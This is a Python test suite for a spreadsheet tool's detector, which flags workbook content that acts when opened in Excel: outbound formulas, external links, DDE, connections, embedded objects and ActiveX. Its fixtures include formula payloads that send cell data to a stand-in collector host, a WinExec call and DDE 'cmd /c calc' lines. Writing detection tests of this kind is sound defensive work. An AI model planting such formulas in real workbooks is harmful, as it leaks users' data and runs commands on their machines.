"""What would act if a returned workbook were opened in Excel: found where it is, and
nothing of a pack's own making is taken for it."""

from __future__ import annotations

import io
import zipfile

import pytest

from sheetflow.collect.hazards import (
    formula_hazard,
    name_hazards,
    part_hazards,
    sheet_hazards,
)
from sheetflow.collect.safety import inspect_file
from sheetflow.packs.generate import generate_packs
from sheetflow.spec.templates import init_study, list_templates

REACHES_OUT, EXTERNAL = "formula-reaches-out", "external-reference"


@pytest.mark.parametrize("text, code", [
    (b'WEBSERVICE("https://collector.example/?"&amp;C13)', REACHES_OUT),
    (b'webservice("https://collector.example/")', REACHES_OUT),  # Excel reads it so
    (b'&#87;EBSERVICE("https://collector.example/")', REACHES_OUT),  # spelt in XML
    (b'_xlfn.IMAGE("https://collector.example/p.png")', REACHES_OUT),
    (b'FILTERXML(A1,"//a")', REACHES_OUT),
    (b'HYPERLINK("https://collector.example/?"&amp;A1,"help")', REACHES_OUT),
    (b'RTD("prog.id",,"x")', REACHES_OUT),
    (b'CALL("kernel32","WinExec","JCJ","calc",0)', REACHES_OUT),
    (b'REGISTER.ID("lib","fn")', REACHES_OUT),
    (b"cmd|' /c calc'!A0", REACHES_OUT),
    (b"'[other.xlsx]Sheet1'!A1", EXTERNAL),
    (b"[1]Sheet1!A1+1", EXTERNAL),
    (b"SUM([1]!Total)", EXTERNAL),
    (b"'C:\\data\\[book.xlsx]Sheet 1'!$A$1", EXTERNAL),
    (b"&apos;[other.xlsx]Sheet1&apos;!A1", EXTERNAL),
])
def test_formulas_that_reach_out(text, code):
    assert formula_hazard(text)[0] == code


@pytest.mark.parametrize("text", [
    b'IF(SUM(I5:I457)&gt;0,SUM(I5:I457)&amp;" to correct (red cells)","done")',
    b'"see WEBSERVICE(x) and [1]Sheet!A1 | no"&amp;A1',  # all of it inside a string
    b"SUM(Table1[Score])+Sheet2!A1",  # a table's column, then a sheet of this book
    b"'_lists'!$A$1:$A$5",
    b"MYWEBSERVICE(A1)+RECALL(2)",  # names that only end in one
    b"WEBSERVICE",  # a defined name called so, not the function
])
def test_formulas_that_do_not(text):
    assert formula_hazard(text) is None


def test_a_sheet_names_each_cell_and_rule():
    formulas = {(5, 2): (b"", b"SUM(A1:A4)"),
                (10, 8): (b"", b'WEBSERVICE("https://collector.example/")'),
                (12, 27): (b't="shared" si="0"', b"'[x.xlsx]S'!A1")}
    xml = (b"<worksheet><sheetData/><conditionalFormatting sqref='C5'><cfRule type="
           b"'expression'><formula>LEN(WEBSERVICE(&quot;https://c.example/&quot;))&gt;0"
           b"</formula></cfRule></conditionalFormatting><dataValidations><dataValidation>"
           b"<formula1>\"Yes,No\"</formula1></dataValidation></dataValidations></worksheet>")
    found = sheet_hazards("More instructions", formulas, xml)
    assert [(h.code, h.sheet, h.cell) for h in found] == [
        (REACHES_OUT, "More instructions", "H10"), (EXTERNAL, "More instructions", "AA12"),
        (REACHES_OUT, "More instructions", "")]
    assert found[0].where == "Cell 'More instructions'!H10"
    assert found[0].value == '=WEBSERVICE("https://collector.example/")'
    assert found[2].value == '=LEN(WEBSERVICE("https://c.example/"))>0'


@pytest.mark.parametrize("text", [
    b'webservice("https://c.example/")', b'&#87;EBSERVICE("https://c.example/")',
    b'_xlfn.image("https://c.example/p.png")', b"[1]Sheet1!A1", b"cmd|' /c calc'!A0"])
def test_the_quick_search_of_a_sheet_misses_no_spelling(text):
    """A sheet's formulas are searched all at once, without digits and in capitals,
    before any is looked at alone: any spelling Excel reads still gets through."""
    formulas = {(row, 2): (b"", b"SUM(A%d:A4)" % row) for row in range(1, 200)}
    formulas[(300, 3)] = (b"", text)
    found = sheet_hazards("Scoring", formulas, b"<worksheet/>")
    assert [(h.sheet, h.cell) for h in found] == [("Scoring", "C300")]


def test_a_defined_name_that_calls_out():
    xml = (b'<workbook><definedNames><definedName name="sf_rater_id">"EV-01"</definedName>'
           b"<definedName name='Leak'>WEBSERVICE(\"https://c.example/\")</definedName>"
           b"<definedName name=\"_xlnm.Print_Area\" localSheetId=\"1\">'Scoring'!$B$1:$G$9"
           b"</definedName></definedNames></workbook>")
    found = name_hazards(xml)
    assert [(h.code, h.where) for h in found] == [(REACHES_OUT, "The defined name 'Leak'")]


def _zip(parts: dict[str, bytes]) -> zipfile.ZipFile:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return zipfile.ZipFile(io.BytesIO(buffer.getvalue()))


_REL = ('<Relationship Id="{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/{}" Target="{}"{}/>')


def _rels(*relationships: tuple[str, str, str, str]) -> bytes:
    return ("<Relationships>" + "".join(_REL.format(*r) for r in relationships)
            + "</Relationships>").encode()


def test_parts_that_act_and_links_out_of_the_file():
    zf = _zip({
        "xl/worksheets/sheet1.xml": b"<worksheet/>",
        "xl/worksheets/_rels/sheet1.xml.rels": _rels(
            ("rId1", "hyperlink", "https://example.org/", ' TargetMode="External"'),
            ("rId2", "drawing", "../drawings/drawing1.xml", "")),
        "xl/drawings/_rels/drawing1.xml.rels": _rels(
            ("rId1", "image", "https://c.example/pixel.png?a=1&amp;b=2",
             " TargetMode='External'")),
        "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": _rels(
            ("rId1", "externalLinkPath", "file:///C:/data/book.xlsx", ' TargetMode="External"')),
        "xl/externalLinks/externalLink2.xml": b'<externalLink><ddeLink ddeService="cmd" '
                                              b'ddeTopic="/c calc"/></externalLink>',
        "xl/connections.xml": b"<connections/>",
        "xl/embeddings/oleObject1.bin": b"\0",
        "xl/activeX/activeX1.xml": b"<ocx/>",
        "xl/activeX/activeX1.bin": b"\0",
        "xl/activeX/_rels/activeX1.xml.rels": _rels(("rId1", "activeXControlBinary",
                                                     "activeX1.bin", "")),
    })
    found = [(h.code, h.where, h.value) for h in part_hazards(zf, zf.infolist())]
    assert found == [
        (EXTERNAL, "The part xl/drawings/drawing1.xml", "https://c.example/pixel.png?a=1&b=2"),
        (EXTERNAL, "The part xl/externalLinks/externalLink1.xml", "file:///C:/data/book.xlsx"),
        (EXTERNAL, "The part xl/externalLinks/externalLink2.xml", "the program 'cmd' (DDE)"),
        ("data-connection", "The part xl/connections.xml", "xl/connections.xml"),
        ("embedded-object", "The part xl/embeddings/oleObject1.bin",
         "xl/embeddings/oleObject1.bin"),
        ("activex-control", "The part xl/activeX/activeX1.xml", "xl/activeX/activeX1.xml"),
    ]


@pytest.mark.parametrize("template", list_templates())
def test_packs_as_generated_carry_nothing_that_acts(tmp_path, template):
    """Every template's packs, with their own helper formulas, rules and names."""
    root = tmp_path / "study"
    init_study(root, template)
    generate_packs(root)
    packs = sorted((root / "packs").glob("*.xlsx"))
    assert packs
    for pack in packs:
        inspection = inspect_file(pack)
        assert inspection.safe and inspection.hazards == [], (pack.name, inspection.hazards)
